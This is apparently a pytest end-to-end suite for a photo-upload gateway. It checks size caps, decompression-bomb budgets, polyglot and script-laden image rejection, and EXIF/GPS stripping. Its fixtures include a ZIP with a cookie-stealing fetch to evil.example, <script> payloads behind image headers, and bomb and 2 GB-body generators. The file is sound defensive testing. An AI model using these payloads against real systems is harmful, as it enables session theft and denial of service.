"""Hardened photo uploads over real HTTP: a real gateway and worker, the emulator, Redis.

Bodies far over the cap are cut while streaming (the gateway's RSS is read from /proc), and
every photo is stored, and sent upstream, as re-encoded pixels only."""

from __future__ import annotations

import asyncio
import io
import json
import select
import socket
import statistics
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from PIL import Image
from redis.asyncio import Redis
from service.keys import Keys

from tests.conftest import Emulator
from tests.e2e.conftest import (
    SECRET,
    Gateway,
    eventually,
    photo_bytes,
    put_product,
    start_gateway,
    start_tryon,
    upload_photo,
    wait_terminal,
)

GB2 = 2 * 1024**3
BOUNDARY = b"cut-here"
FILE_PART = (
    b"--" + BOUNDARY + b"\r\n"
    b'Content-Disposition: form-data; name="file"; filename="me.jpg"\r\n'
    b"Content-Type: image/jpeg\r\n\r\n"
)
GPS_IFD = 0x8825


def rss_mb(pid: int, field: str = "VmRSS") -> float:
    """A memory figure of /proc/<pid>/status in MB: VmRSS now, or VmHWM, the peak so far."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1]) / 1024
    raise AssertionError(f"no {field}")


@dataclass
class Sent:
    status: int | None
    body: dict[str, Any] | None
    bytes_sent: int
    seconds: float


def send_endless(url: str, framing: bytes, total: int = GB2) -> Sent:
    """POST /v1/images with `total` bytes of body from a loop (nothing held in memory), reading
    the socket while sending, as curl does, and stopping at the first answer or a reset."""
    host, port = url.removeprefix("http://").split(":")
    head = (
        b"POST /v1/images HTTP/1.1\r\nHost: " + host.encode() + b"\r\n"
        b"Authorization: Bearer " + SECRET.encode() + b"\r\n"
        b"Content-Type: multipart/form-data; boundary=" + BOUNDARY + b"\r\n" + framing + b"\r\n"
    )
    if b"chunked" in framing:
        head += b"%x\r\n" % total  # one chunk announcing it all; its bytes follow forever
    chunk = b"\0" * 65536
    sent, answer = 0, b""
    started = time.perf_counter()
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head + FILE_PART)
        sock.setblocking(False)
        while sent < total and time.perf_counter() - started < 60:
            readable, writable, _ = select.select([sock], [sock], [], 5)
            try:
                if readable:
                    data = sock.recv(65536)
                    answer += data
                    if not data or b"\r\n\r\n" in answer:
                        break
                if writable:
                    sent += sock.send(chunk)
            except OSError:
                break
        sock.setblocking(True)
        sock.settimeout(2)
        try:
            while data := sock.recv(65536):
                answer += data
        except OSError:
            pass  # the gateway resets a connection it stopped reading: the answer came first
    seconds = time.perf_counter() - started
    if not answer:
        return Sent(None, None, sent, seconds)
    head_part, _, body = answer.partition(b"\r\n\r\n")
    status = int(head_part.split(b" ", 2)[1])
    parsed = json.loads(body) if body.startswith(b"{") else None
    return Sent(status, parsed, sent, seconds)


def gps_photo(size: tuple[int, int] = (120, 60)) -> bytes:
    image = Image.new("RGB", size, (220, 30, 30))
    image.paste((30, 30, 220), (size[0] // 2, 0, size[0], size[1]))
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 degrees clockwise to view
    gps = exif.get_ifd(GPS_IFD)
    gps[1], gps[2], gps[3], gps[4] = "N", (48.0, 51.0, 29.0), "E", (2.0, 17.0, 40.0)
    buf = io.BytesIO()
    image.save(buf, "JPEG", exif=exif, comment=b"home sweet home", quality=95)
    return buf.getvalue()


def polyglot() -> tuple[bytes, bytes]:
    jpeg = photo_bytes((40, 90, 160), size=(96, 120))
    payload = io.BytesIO()
    with zipfile.ZipFile(payload, "w") as archive:
        archive.writestr("run.js", "fetch('//evil.example/?c='+document.cookie)")
    return jpeg, jpeg + payload.getvalue()


def truncated_photo() -> bytes:
    whole = io.BytesIO()
    Image.effect_noise((300, 200), 60).convert("RGB").save(whole, "JPEG")
    return whole.getvalue()[: len(whole.getvalue()) // 2]


def png_declaring(width: int, height: int) -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, payload: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + payload))
        return struct.pack(">I", len(payload)) + kind + payload + crc

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\0" * 4096))
        + chunk(b"IEND", b"")
    )


async def stored_bytes(redis: Redis, image_id: str) -> tuple[dict[str, Any], bytes]:
    raw = await redis.get(f"tryon:img:{image_id}")
    assert raw is not None
    record: dict[str, Any] = json.loads(raw)
    data = await redis.get(f"tryon:imgdata:{record['dedupe_key']}")
    assert data is not None
    return record, data


def test_a_2gb_body_is_cut_at_the_cap_and_the_gateway_stays_flat(gateway: Gateway) -> None:
    pid = gateway.stack.procs["gateway"].pid
    warm = httpx.post(
        f"{gateway.url}/v1/images",
        headers={"Authorization": f"Bearer {SECRET}"},
        files={"file": ("p.jpg", photo_bytes(), "image/jpeg")},
    )
    assert warm.status_code == 201, warm.text
    before = rss_mb(pid)

    chunked = send_endless(gateway.url, b"Transfer-Encoding: chunked\r\n")
    announced = send_endless(gateway.url, b"Content-Length: %d\r\n" % (GB2 + len(FILE_PART)))
    # A Content-Length that lies low: the rest of the stream is not a valid next request.
    lying = send_endless(gateway.url, b"Content-Length: %d\r\n" % (1024 * 1024))
    after = rss_mb(pid)
    print(f"gateway RSS before {before:.1f} MB, after three 2 GB bodies {after:.1f} MB")
    for case in (chunked, announced, lying):
        print(case)

    for case in (chunked, announced):
        assert case.status == 413
        assert case.body is not None
        assert case.body["code"] == "PAYLOAD_TOO_LARGE"
    assert lying.status is not None
    assert 400 <= lying.status < 500
    for case in (chunked, announced, lying):
        assert case.bytes_sent < 100 * 1024**2  # cut near the 10 MB cap, far from 2 GB
        assert case.seconds < 10
    assert after - before < 40
    assert gateway.stack.procs["gateway"].poll() is None


async def test_a_client_that_reads_only_after_sending_still_gets_the_413(
    api: httpx.AsyncClient,
) -> None:
    for size in (12 * 1024**2, 20 * 1024**2):
        sent = 0

        async def body(size: int = size) -> Any:
            nonlocal sent
            yield FILE_PART
            while sent < size:
                sent += 65536
                yield b"\0" * 65536

        r = await api.post(
            "/v1/images",
            content=body(),
            headers={"content-type": f"multipart/form-data; boundary={BOUNDARY.decode()}"},
        )
        assert (r.status_code, r.json()["code"]) == (413, "PAYLOAD_TOO_LARGE")
        assert r.headers["connection"] == "close"
    # The same cap on a photo sent inline with a try-on.
    data = json.dumps({"products": [{"externalId": "tee"}],
                       "person": {"image": {"source": {"fileKey": "me"}}}})  # fmt: skip
    big = photo_bytes() + b"\0" * (10 * 1024 * 1024)
    r = await api.post(
        "/v1/try-ons", data={"data": data}, files={"me": ("me.jpg", big, "image/jpeg")}
    )
    assert (r.status_code, r.json()["code"]) == (413, "PAYLOAD_TOO_LARGE")


_K = Keys()


def _family(name: str) -> str:
    """The key family a name belongs to: the prefix and its first part (`tryon:t:`)."""
    head, colon, _ = name.removeprefix(_K.prefix).partition(":")
    return _K.prefix + head + colon


# What a photo upload or a try-on writes, named by service/keys.py: records and their events,
# photos and their bytes, upstream photos, idempotency, a user's indexes, quota counters, the
# active set. Not the whole database: the fleet writes its own keys meanwhile (heartbeats, the
# sweep's samples and balances, arq's bookkeeping), and one landing between the two reads
# failed this test once. Named through Keys, so a renamed family cannot leave this check empty.
_REQUEST_DATA = tuple(
    _family(name)
    for name in (
        _K.tryon("x"),
        _K.tryon_events("x"),
        _K.image("x"),
        _K.image_bytes("x"),
        _K.upstream_photo("x", "x"),
        _K.idempotency("x", "x"),
        _K.customer_tryons("x", "x"),
        _K.daily_tryons("x", "x"),
        _K.active_tryons,
    )
)


async def request_data(redis: Redis) -> set[str]:
    names = (k.decode() for k in await redis.keys(f"{_K.prefix}*"))
    return {name for name in names if name.startswith(_REQUEST_DATA)}


@pytest.mark.parametrize(
    ("photo", "status", "code"),
    [
        (png_declaring(50_000, 50_000), 422, "IMAGE_TOO_LARGE"),
        (truncated_photo(), 400, "INVALID_IMAGE"),
        (b"GIF89a/*<html><script>alert(1)</script></html>*/", 400, "INVALID_IMAGE"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"<script>alert(1)</script>" * 20, 400,
         "INVALID_IMAGE"),
    ],
    ids=["bomb", "truncated", "html-gif-header", "jpeg-header-script"],
)  # fmt: skip
async def test_bad_photos_are_refused_with_stable_codes_and_nothing_stored(
    api: httpx.AsyncClient, emulator: Emulator, redis: Redis, photo: bytes, status: int, code: str
) -> None:
    await put_product(api, emulator)
    before = await request_data(redis)
    r = await api.post("/v1/images", files={"file": ("me.jpg", photo, "image/jpeg")})
    assert (r.status_code, r.json()["code"]) == (status, code), r.text
    data = json.dumps({"products": [{"externalId": "tee"}],
                       "person": {"image": {"source": {"fileKey": "me"}}}})  # fmt: skip
    r = await api.post(
        "/v1/try-ons", data={"data": data}, files={"me": ("me.jpg", photo, "image/jpeg")}
    )
    assert (r.status_code, r.json()["code"]) == (status, code), r.text
    assert await request_data(redis) == before


async def test_a_polyglot_is_stored_as_the_pixels_of_its_image_only(
    gateway: Gateway, api: httpx.AsyncClient, redis: Redis
) -> None:
    jpeg, with_zip = polyglot()
    plain_id = await upload_photo(api, jpeg)
    poly_id = await upload_photo(api, with_zip)

    # Their upload jobs finish here: one still running would reach the emulator in the next
    # test, which counts the uploads it makes.
    async def drained() -> bool:
        return await redis.zcard(gateway.queue) == 0

    await eventually(drained, what="the photos' upload jobs did not finish")
    plain, plain_bytes = await stored_bytes(redis, plain_id)
    poly, poly_bytes = await stored_bytes(redis, poly_id)
    assert poly_bytes == plain_bytes  # the appended ZIP is gone; same pixels, same encoding
    assert poly["digest"] == plain["digest"]  # so the two dedupe to one upstream upload
    assert b"PK\x03\x04" not in poly_bytes
    assert not zipfile.is_zipfile(io.BytesIO(poly_bytes))


async def test_what_genlook_receives_is_upright_and_has_no_gps(
    api: httpx.AsyncClient, emulator: Emulator, redis: Redis
) -> None:
    source = gps_photo()
    assert Image.open(io.BytesIO(source)).getexif().get_ifd(GPS_IFD)  # the input has GPS
    image_id = await upload_photo(api, source)
    await put_product(api, emulator)
    done = await wait_terminal(api, (await start_tryon(api, image_id))["id"])
    assert done["status"] == "completed", done
    assert emulator.counters()["requests"]["upload_image"] == 1

    # The worker uploads exactly these bytes (PhotoStore.upstream_id reads them from Redis).
    record, stored = await stored_bytes(redis, image_id)
    assert record["content_type"] == "image/jpeg"
    assert record["size"] == len(stored)
    for marker in (b"Exif\0\0", b"home sweet home", b"http://ns.adobe.com/xap"):
        assert marker not in stored
    kept = Image.open(io.BytesIO(stored))
    assert "exif" not in kept.info
    assert dict(kept.getexif()) == {}
    assert kept.size == (60, 120)  # turned upright
    top = kept.convert("RGB").getpixel((30, 10))
    assert isinstance(top, tuple)
    assert top[0] > 180  # the left (red) half is now on top


async def test_a_burst_of_big_photos_does_not_stall_other_requests(
    gateway: Gateway, api: httpx.AsyncClient
) -> None:
    size = (4000, 3000)
    bands = [
        Image.linear_gradient("L").resize(size),
        Image.effect_noise(size, 40),
        Image.radial_gradient("L").resize(size),
    ]
    big = Image.merge("RGB", bands)
    buf = io.BytesIO()
    big.save(buf, "JPEG", quality=90)
    photo = buf.getvalue()

    async def ping_while(task: asyncio.Future[Any]) -> list[float]:
        latencies = []
        async with httpx.AsyncClient(base_url=gateway.url, timeout=30) as probe:
            while not task.done():
                started = time.perf_counter()
                assert (await probe.get("/healthz")).status_code == 200
                latencies.append(time.perf_counter() - started)
                await asyncio.sleep(0.05)
        return latencies

    started = time.perf_counter()
    burst = asyncio.gather(*(upload_photo(api, photo) for _ in range(8)))
    latencies = await ping_while(burst)
    ids = await burst
    median = statistics.median(latencies)
    print(f"8 uploads of a 12 MP JPEG: {time.perf_counter() - started:.2f} s; /healthz during "
          f"them: {len(latencies)} calls, median {median * 1000:.0f} ms, "
          f"max {max(latencies) * 1000:.0f} ms")  # fmt: skip
    assert len(set(ids)) == 8
    # Cleaning runs in threads, so the loop keeps answering between uploads' bytes; were it
    # on the loop, each ping would wait for a whole photo (~0.4 s or more).
    assert len(latencies) >= 20
    assert median < 0.1


def one_bit_bomb(size: int = 6300) -> bytes:
    """A ~5 KB 1-bit PNG of size x size (under the 40 MP limit): 40 MB decoded, 160 MB as RGB."""
    buf = io.BytesIO()
    Image.new("1", (size, size), 0).save(buf, "PNG")
    return buf.getvalue()


DECODE_BUDGET_MB = 260


@pytest.fixture(scope="module")
def tight_gateway(emulator_process: Emulator) -> Iterator[Gateway]:
    """A gateway with four decoding threads and a 260 MB decode budget: one bomb at a time."""
    gw = start_gateway(
        emulator_process,
        GATEWAY_IMAGE_THREADS="4",
        GATEWAY_DECODE_MEMORY_BYTES=str(DECODE_BUDGET_MB * 1024 * 1024),
        GATEWAY_DECODE_WAIT_SECONDS="60",
    )
    yield gw
    gw.stack.stop_all()


async def test_concurrent_decompression_bombs_stay_within_the_decode_budget(
    tight_gateway: Gateway, redis: Redis
) -> None:
    pid = tight_gateway.stack.procs["gateway"].pid
    async with tight_gateway.client() as api:
        await upload_photo(api)  # warm: imports, first decode, connections
        baseline = rss_mb(pid, "VmHWM")
        bomb = one_bit_bomb()
        assert len(bomb) < 10_000
        answers = await asyncio.gather(
            *(
                api.post("/v1/images", files={"file": (f"b{i}.png", bomb, "image/png")})
                for i in range(6)
            )
        )
        peak = rss_mb(pid, "VmHWM")
        # Larger than the whole budget (40 MP of RGB: 8 bytes a pixel while cleaning).
        rgb = io.BytesIO()
        Image.new("RGB", (6300, 6300), (10, 20, 30)).save(rgb, "PNG")
        too_big = await api.post(
            "/v1/images", files={"file": ("rgb.png", rgb.getvalue(), "image/png")}
        )
    print(f"6 concurrent 1-bit 6300x6300 PNGs, 4 threads: VmHWM {baseline:.0f} -> {peak:.0f} MB")
    assert [r.status_code for r in answers] == [201] * 6, [r.text for r in answers]
    # Without the budget, four threads decode four bombs at once: ~4 x 340 MB.
    assert peak - baseline < DECODE_BUDGET_MB + 40
    assert too_big.status_code == 422, too_big.text
    assert too_big.json()["code"] == "IMAGE_TOO_LARGE"
    assert rss_mb(pid, "VmHWM") == peak  # refused before a pixel was decoded


async def test_a_photo_that_waits_too_long_for_the_budget_gets_a_503(
    emulator_process: Emulator, redis: Redis
) -> None:
    gw = start_gateway(
        emulator_process,
        GATEWAY_IMAGE_THREADS="2",
        GATEWAY_DECODE_MEMORY_BYTES=str(DECODE_BUDGET_MB * 1024 * 1024),
        GATEWAY_DECODE_WAIT_SECONDS="0.2",
    )
    try:
        bomb = one_bit_bomb()
        async with gw.client() as api:
            answers = await asyncio.gather(
                *(
                    api.post("/v1/images", files={"file": (f"b{i}.png", bomb, "image/png")})
                    for i in range(3)
                )
            )
    finally:
        gw.stack.stop_all()
    statuses = sorted(r.status_code for r in answers)
    assert statuses[0] == 201, [r.text for r in answers]
    assert statuses[-1] == 503, [r.text for r in answers]
    busy = next(r for r in answers if r.status_code == 503)
    assert busy.json()["code"] == "IMAGE_PROCESSING_BUSY"
    assert int(busy.headers["retry-after"]) >= 1
